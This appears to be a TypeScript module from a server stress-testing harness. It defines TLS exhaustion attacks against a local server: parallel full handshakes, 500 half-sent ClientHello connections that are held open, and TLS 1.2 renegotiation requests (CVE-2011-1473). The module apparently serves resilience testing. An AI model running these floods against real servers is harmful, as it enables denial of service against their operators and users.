// Attacks on TLS: handshakes for their cost, handshakes that stop half-way, and renegotiation.
import { once } from 'node:events';
import { connect as connectTcp } from 'node:net';
import { connect, type TLSSocket } from 'node:tls';
import { type Attack, type AttackPlace, HELD, inParallel, pause } from './attack.ts';

/** The first bytes of a ClientHello of 512 bytes: a record, and a message in it, that are never completed. */
const HALF_HELLO = Buffer.from('1603010200010001fc0303', 'hex');

async function openTls({ securePort }: AttackPlace, maxVersion: 'TLSv1.2' | 'TLSv1.3'): Promise<TLSSocket> {
  const socket = connect({ port: securePort, host: '127.0.0.1', rejectUnauthorized: false, maxVersion });
  await once(socket, 'secureConnect');
  socket.on('error', () => {});
  return socket.resume();
}

async function renegotiate(place: AttackPlace): Promise<void> {
  const socket = await openTls(place, 'TLSv1.2');
  const outcome = await new Promise<string>((resolve) => {
    socket.renegotiate({ rejectUnauthorized: false }, (error) =>
      resolve(error ? 'renegotiation refused' : 'renegotiated'),
    );
    socket.once('error', () => resolve('renegotiation refused'));
    socket.once('close', () => resolve('closed'));
    place.signal.addEventListener('abort', () => resolve(HELD), { once: true });
  });
  place.tally.sent++;
  place.tally.ended(outcome);
  socket.destroy();
}

async function stopHalfWay(place: AttackPlace): Promise<void> {
  const socket = connectTcp(place.securePort, '127.0.0.1');
  let isOver = false;
  for (const event of ['end', 'close', 'error']) socket.once(event, () => (isOver = true));
  socket.resume().write(HALF_HELLO);
  place.tally.sent++;
  while (!isOver && !place.signal.aborted) await pause(100, place.signal);
  place.tally.ended(isOver ? 'closed' : HELD);
  socket.destroy();
}

export const handshakes: readonly Attack[] = [
  {
    name: 'TLS handshakes',
    what: '32 full handshakes at a time, each connection left at once',
    run: (place) =>
      inParallel(place, 32, async () => {
        const socket = await openTls(place, 'TLSv1.3');
        place.tally.sent++;
        place.tally.ended('handshake done');
        socket.destroy();
      }),
  },
  {
    name: 'half TLS handshakes',
    what: '500 connections that stop in the middle of their first message',
    run: (place) => inParallel(place, 500, () => stopHalfWay(place)),
  },
  {
    name: 'TLS renegotiation',
    what: 'TLS 1.2 clients that ask for another handshake (CVE-2011-1473)',
    endsWith: /^(?:renegotiation refused|closed)$/,
    run: (place) => inParallel(place, 8, () => renegotiate(place)),
  },
];
